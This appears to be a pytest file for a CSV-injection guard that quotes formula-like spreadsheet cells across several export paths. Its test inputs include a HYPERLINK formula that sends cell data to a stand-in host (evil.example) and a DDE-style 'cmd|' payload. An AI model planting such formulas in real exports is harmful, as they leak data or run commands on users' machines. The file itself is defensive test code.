"""uptake.safe_cells: text a spreadsheet could run as a formula gets a single quote in front (OWASP CSV
injection guidance); numbers, dates and plain text are untouched. And every file export uses it: the
mission exports (uptake export ratings, assessments gaps), the result exports (uptake export) and the
ingest problem report."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pyarrow as pa
import pytest

from uptake.safe_cells import is_risky, safe_arrow, safe_cell, safe_frame, safe_text

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


@pytest.mark.parametrize("text", [
    EVIL, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "-", "+", "=",
    "\uff1d1+1", "-inf", "-1e5+cmd",
])
def test_formula_like_text_gets_a_quote(text: str) -> None:
    assert is_risky(text)
    assert safe_text(text) == "'" + text
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", [
    "", "Royal Free London", "NHS Somerset ICB", "'already quoted", " =not first", "a=b", "x-y", "2024-03-31",
    "-12.5", "+3", "-0.25e-3", "-.5",
])
def test_plain_text_and_numbers_written_as_text_are_left_alone(text: str) -> None:
    assert not is_risky(text)
    assert safe_text(text) == text


@pytest.mark.parametrize("value", [-5, -0.25, 0, 3.5, True, None, dt.date(2024, 1, 1), float("nan")])
def test_values_that_are_not_text_are_untouched(value) -> None:
    result = safe_cell(value)
    assert result is value or (result != result and value != value)


def test_frames_keep_their_numbers_and_neutralise_their_text() -> None:
    frame = pd.DataFrame({"name": [EVIL, "Plain", None], "value": [-1.5, 2.0, None], "count": [-3, 4, 5],
                          "when": pd.to_datetime(["2024-01-01", "2024-02-01", "2024-03-01"]),
                          "flag": [True, False, True]})
    safe = safe_frame(frame)
    assert safe["name"].tolist()[:2] == ["'" + EVIL, "Plain"] and pd.isna(safe["name"].iloc[2])
    for column in ("value", "count", "when", "flag"):
        pd.testing.assert_series_equal(safe[column], frame[column])
    assert frame["name"].iloc[0] == EVIL  # the caller's frame is not changed


def test_arrow_tables_neutralise_string_columns_only() -> None:
    table = pa.table({"name": pa.array([EVIL, "Plain", None, "-12.5", "\t1"]),
                      "kind": pa.array(["@a", "b", "c", "d", "e"]).dictionary_encode(),
                      "value": pa.array([-1.0, 2.0, None, -12.5, 1.0])})
    safe = safe_arrow(table)
    assert safe.column("name").to_pylist() == ["'" + EVIL, "Plain", None, "-12.5", "'\t1"]
    assert safe.column("kind").to_pylist() == ["'@a", "b", "c", "d", "e"]
    assert safe.column("value").to_pylist() == [-1.0, 2.0, None, -12.5, 1.0]


def test_mission_file_exports_neutralise_formulas(tmp_path) -> None:
    from uptake.cli.export_files import write_frame

    frame = pd.DataFrame({"org_name": [EVIL], "value": [-0.5], "trace": [{"because": "=1+1"}]})
    path = write_frame(frame, tmp_path / "ratings.csv", "csv")
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    assert rows[0]["org_name"] == "'" + EVIL and float(rows[0]["value"]) == -0.5
    assert rows[0]["trace"].startswith("{")  # JSON text cannot start a formula
    parquet = pd.read_parquet(write_frame(frame, tmp_path / "ratings.parquet", "parquet"))
    assert parquet["org_name"].iloc[0] == EVIL  # typed formats keep the text as it is


def test_result_exports_neutralise_formulas() -> None:
    from uptake.pipeline.export import render

    table = pa.table({"org_code": ["A1", "B2"], "org_name": [EVIL, "Plain"], "value": [-0.5, 0.25]})
    rows = list(csv.DictReader(io.StringIO(render(table, "csv").decode("utf-8"))))
    assert [r["org_name"] for r in rows] == ["'" + EVIL, "Plain"] and rows[0]["value"] == "-0.5"


def test_the_ingest_problem_report_neutralises_formulas(tmp_path) -> None:
    from uptake.ingest.problems import PROBLEM_COLUMNS, RULES, Problems

    frame = pd.DataFrame([{c: None for c in PROBLEM_COLUMNS}])
    frame["row"] = [2]
    text_columns = [c for c in PROBLEM_COLUMNS if c not in ("row", "rule")]
    for column in text_columns:
        frame[column] = EVIL  # the value (and a column name) come from the file being loaded
    frame["rule"] = next(iter(RULES))
    path = Problems(frame).to_csv(tmp_path / "problems.csv")
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert all(rows[0][c] == "'" + EVIL for c in text_columns) and rows[0]["row"] == "2"
